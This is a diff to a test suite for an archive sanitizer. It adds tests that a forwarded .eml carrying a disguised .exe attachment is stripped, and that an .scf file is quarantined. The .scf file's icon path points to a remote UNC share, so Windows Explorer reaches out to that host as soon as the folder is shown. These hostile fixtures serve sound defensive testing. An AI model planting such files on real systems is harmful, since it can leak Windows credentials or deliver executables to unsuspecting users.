@@ -181,3 +181,29 @@ def test_bidi_controls_removed_from_member_names() -> None:
     names = zipfile.ZipFile(io.BytesIO(result.outputs[0].data)).namelist()
     assert names == ["docs/報告txt.pdf"]
     assert "FILENAME_BIDI_CONTROL" in _codes(result)
+
+
+def test_message_member_is_stripped_not_kept_as_text() -> None:
+    """RT-01: an .eml member is a message to whoever opens it; the archive sanitizer cannot
+    recurse into messages, so it goes, with a finding, instead of arriving byte for byte."""
+    forwarded = (
+        b"MIME-Version: 1.0\r\nContent-Type: application/octet-stream; name=a.exe\r\n"
+        b"Content-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA\r\n"
+    )
+    result = _sanitize(hostile.simple_zip({"fwd.eml": forwarded, "readme.txt": b"hello\n"}))
+    (output,) = result.outputs
+    assert zipfile.ZipFile(io.BytesIO(output.data)).namelist() == ["readme.txt"]
+    assert "MESSAGE_FILE" in _codes(result)
+    stripped = [f.detail for f in result.findings if f.code == "ARCHIVE_MEMBER_STRIPPED"]
+    assert stripped == ["fwd.eml (message: strip)"]
+
+
+def test_member_windows_acts_on_withholds_the_archive() -> None:
+    """RT-05: an .scf fetches its icon from a UNC path as soon as Explorer shows the folder."""
+    scf = b"[Shell]\r\nCommand=2\r\nIconFile=\\\\10.0.0.5\\s\\i.ico\r\n"
+    result = _sanitize(
+        hostile.simple_zip({"desktop.scf": scf}),
+        member_actions=(*MEMBERS, ("script", "quarantine")),
+    )
+    assert result.outputs == ()
+    assert {"ACTIVE_FILE_TYPE", "ARCHIVE_MEMBER_QUARANTINE"} <= set(_codes(result))
